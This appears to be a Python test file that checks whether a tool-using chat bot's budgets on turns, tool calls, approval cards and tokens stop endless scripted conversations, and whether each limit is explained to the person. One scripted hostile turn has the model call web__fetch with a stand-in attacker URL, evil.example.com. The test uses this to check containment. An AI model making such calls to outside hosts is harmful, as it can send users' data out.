"""A model that never ends is ended: by rounds, by calls, by cards or by tokens, in words, whatever it repeats."""

import json
from collections import Counter
from dataclasses import replace
from random import Random  # noqa: TID251 - a seeded one is handed in

from bot.budgets import Budgets
from bot.models.outbox import Kind
from bot.models.request import RequestStatus
from bot.ports import Reply
from tests.direct_store import direct_store, fresh_image
from tests.engine import Engine
from tests.hostile import ARSENAL, seeded, shipped_policy
from tests.world import World, a_toolset, says, suspend, uses

LOOPS, FRESH = 100, 50
SMALL = Budgets(turns=4, calls=9, cards=3, calls_per_turn=4, tokens=400)
"""The limits are the same code at any size; the shipped ones are tried, too."""
ENDLESS = 60


def _read(user: object) -> tuple[str, str]:
    return "google__get_user", json.dumps({"user_key": f"u{user}@example.com"})


def _turn(rng: Random, number: int) -> Reply:
    """One message of an endless conversation."""
    write = suspend(f"u{rng.choice([1, number])}@example.com")
    wants = {
        "the same read": [_read(1)],
        "another read": [_read(number)],
        "many reads": [_read(n) for n in range(rng.randint(5, 30))],
        "a write": [write],
        "writes and reads": [write, _read(1), write, _read(number)],
        "an unknown tool": [("google__approve", "{}")],
        "no arguments": [("google__get_user", "[")],
        "data to elsewhere": [("web__fetch", '{"user_key":"https://evil.example.com"}')],
        "a page": [("web__page", '{"user_key":"https://example.com"}')],
    }
    kind = rng.choice([*wants, "a pause", "many tokens"])
    if kind == "a pause":
        return says("Let me think.", "pause_turn")
    reply = uses(*wants.get(kind, [_read(1)]), text=rng.choice(["Again.", "", "Once more, please wait."]))
    return replace(reply, output_tokens=200) if kind == "many tokens" else reply


async def loop(engine: Engine, rng: Random, name: str) -> tuple[str, RequestStatus]:
    """Plays it to the end; raises AssertionError for whatever went beyond a limit. The sentence that ended it."""
    world, most = engine.world, engine.core.budgets
    length = most.turns + 5
    script = [_turn(rng, 0)] * length if rng.random() < 0.5 else [_turn(rng, number) for number in range(length)]
    world.script, world.prompts, world.reads = script, [], []
    request = await engine.mention("go on", user=f"U-{name}", ts=f"{name}.0")
    for _ in range(most.cards + 2):
        await engine.drive(request)
        record = await engine.record(request)
        if record.request.pages:
            break
        world.clock.advance(hours=6)
    assert len(world.prompts) <= most.turns
    assert len(world.reads) <= most.calls + most.calls_per_turn
    assert len(record.approvals) <= most.cards
    assert world.effects == []
    return record.request.pages[0].split(" after ")[0].split(":")[0], record.request.status


async def test_endless_conversations_end_in_words() -> None:
    world, ends = World(toolset=a_toolset(ARSENAL)), Counter[tuple[str, RequestStatus]]()
    image = await fresh_image(shipped_policy(), world.clock)
    for number in range(LOOPS):
        if number % FRESH == 0:
            engine = Engine(world, direct_store(image, world.clock))
            engine.core = replace(engine.core, budgets=SMALL)
        ends[await loop(engine, seeded(number), f"{number}")] += 1
    assert set(ends) == {("I stopped", RequestStatus.ANSWERING)}


async def test_the_shipped_limits_end_them_too() -> None:
    for number in range(6):
        world = World(toolset=a_toolset(ARSENAL))
        engine = Engine(world, direct_store(await fresh_image(shipped_policy(), world.clock), world.clock))
        assert (await loop(engine, seeded(number), f"{number}"))[0] == "I stopped"


async def test_each_limit_is_named_to_the_person() -> None:
    """Without any one of them its loop would go on."""
    limits = {
        "turns": ([uses(_read(1))], "rounds of planning"),
        "calls": ([uses(*map(_read, range(4)))], "tool calls"),
        "cards": ([uses(suspend(f"u{number}@example.com")) for number in range(ENDLESS)], "approval cards"),
        "tokens": ([replace(uses(_read(1)), output_tokens=200)], "tokens"),
    }
    for limit, (script, words) in limits.items():
        world = World(toolset=a_toolset(ARSENAL))
        engine = Engine(world, direct_store(await fresh_image(shipped_policy(), world.clock), world.clock))
        lenient = Budgets(turns=50, calls=200, cards=50, calls_per_turn=50, tokens=10**9)
        engine.core = replace(engine.core, budgets=replace(lenient, **{limit: getattr(SMALL, limit)}))
        world.script = script * (ENDLESS if len(script) == 1 else 1)
        await engine.mention("go on")
        for _ in range(6):
            await engine.run()
            world.clock.advance(hours=6)
        [(_, answer)] = world.posts(Kind.ANSWER)
        assert words in answer
